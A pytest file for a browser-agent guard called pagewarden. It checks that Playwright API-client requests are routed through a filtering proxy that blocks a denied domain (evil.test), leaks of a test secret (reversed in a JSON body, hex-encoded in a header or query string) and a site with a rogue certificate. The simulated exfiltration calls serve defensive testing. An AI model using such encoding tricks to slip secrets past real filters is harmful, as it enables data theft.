"""`page.request` / `context.request` (Playwright's API client, which runs in Playwright's
driver, not in Chromium) under `launch(proxy=True)`: through the session proxy like the
browser's own requests, so the egress rules and the exfiltration filter see them — each
attack next to a benign twin that must reach its host. The raw Playwright objects are used
(`page.unwrap()`): what an agent holding them can do without the guard's wrappers."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from pagewarden import Guard, Secret, launch
from pagewarden.guard import GuardEvent
from pagewarden.proxy._refusal import REFUSED_HEADER
from pagewarden.sync_api import launch as launch_sync
from pagewarden.testing import LocalSite, Response
from tests.proxy.conftest import policies
from tests.proxy.tls import HTTPSServer, make_ca, make_server_cert

pytestmark = pytest.mark.browser

SECRET = "tok-4711-Zebra-Quartz-9"


def _echo(site: LocalSite) -> None:
    for host in ("evil.test", "other.test"):
        site.route(host, "/api", lambda request: Response('{"ok": true}', content_type="application/json"))


async def test_api_requests_to_a_refused_host_are_refused_by_the_proxy(netsite: LocalSite) -> None:
    _echo(netsite)
    guard = Guard(policies=policies({"domain_deny": ["evil.test"]}))
    events: list[GuardEvent] = []
    guard.subscribe(events.append)
    async with launch(guard, proxy=True, host_map={"*.test": netsite.port}) as page:
        await page.goto("http://site.test/")
        raw = page.unwrap()
        shapes = [
            raw.request.get("http://evil.test/api?via=page"),
            raw.context.request.post("http://evil.test/api?via=context", data={"a": 1}),
            raw.request.fetch("http://evil.test/api?via=fetch", method="PUT", data="x"),
        ]
        for call in shapes:
            # the API client tunnels even http:// through CONNECT: the tunnel opens to the proxy
            # alone and the request inside it is refused (403)
            response = await call
            assert response.status == 403 and response.headers.get(REFUSED_HEADER.lower()) == "P-NET"
        twin = await raw.request.get("http://other.test/api?via=page")  # benign twin: reaches
        assert twin.status == 200 and await twin.json() == {"ok": True}
    assert netsite.requests_to("evil.test") == []
    assert [r.path for r in netsite.requests_to("other.test")] == ["/api"]
    refused = [e.data for e in events if e.kind == "network" and e.data["host"] == "evil.test"]
    assert len(refused) == 3 and {(d["rule"], d["action"]) for d in refused} == {("domain_deny", "request")}


async def test_a_secret_in_an_api_request_is_stopped(netsite: LocalSite) -> None:
    _echo(netsite)
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    async with launch(guard, proxy=True, host_map={"*.test": netsite.port}) as page:
        await page.goto("http://site.test/")
        raw = page.unwrap()
        for value, expected in ((SECRET, 403), ("hello-world-pancakes-xy", 200)):
            body = json.dumps({"note": value[::-1]})  # reversed, in a JSON body
            posted = await raw.request.post("http://other.test/api", data=body)
            hexed = {"X-T": value.encode().hex()}
            header = await raw.context.request.get("http://other.test/api", headers=hexed)
            assert (posted.status, header.status) == (expected, expected), value[:3]
    reached = netsite.requests_to("other.test")
    assert len(reached) == 2  # the benign twins only
    assert all("Zebra" not in r.body.decode() and "arbeZ" not in r.body.decode() for r in reached)


def test_sync_api_requests_go_through_the_proxy(netsite: LocalSite) -> None:
    _echo(netsite)
    with launch_sync(
        proxy=True, host_map={"*.test": netsite.port}, policies=policies({"domain_deny": ["evil.test"]})
    ) as page:
        page.goto("http://site.test/")
        assert page.unwrap().request.get("http://evil.test/api").status == 403  # refused in the tunnel
        assert page.unwrap().request.get("http://other.test/api").status == 200
    assert netsite.requests_to("evil.test") == []


async def test_api_requests_over_https_go_through_the_proxy(tmp_path: Path) -> None:
    """Over HTTPS the API client trusts the proxy's CA (the proxy verifies the sites'
    certificates: a site with a certificate nobody trusts is refused, nothing reaches it)."""
    ca_path, ca_key, ca_cert = make_ca(tmp_path)
    good = HTTPSServer(*make_server_cert(tmp_path, "secure.test", ca_key, ca_cert))
    _, rogue_key, rogue_cert = make_ca(tmp_path, "rogue CA")
    bad = HTTPSServer(*make_server_cert(tmp_path, "wrong.test", rogue_key, rogue_cert))
    guard = Guard(secrets=[Secret(SECRET, allow_domains=["site.test"])])
    before = os.environ.get("NODE_EXTRA_CA_CERTS")
    try:
        options = {"ssl_verify_upstream_trusted_ca": str(ca_path)}
        host_map = {"secure.test": good.port, "wrong.test": bad.port}
        async with launch(guard, proxy=True, host_map=host_map, proxy_options=options) as page:
            raw = page.unwrap()
            assert (await raw.request.get("https://secure.test/page")).status == 200
            leak = await raw.request.get("https://secure.test/page?t=" + SECRET.encode().hex())
            assert leak.status == 403
            assert (await raw.request.get("https://wrong.test/page")).status == 502
        assert os.environ.get("NODE_EXTRA_CA_CERTS") == before  # the process's own is back
    finally:
        good.close()
        bad.close()
    assert [p for p in good.paths if p != "/favicon.ico"] == ["/page"]
    assert bad.paths == []
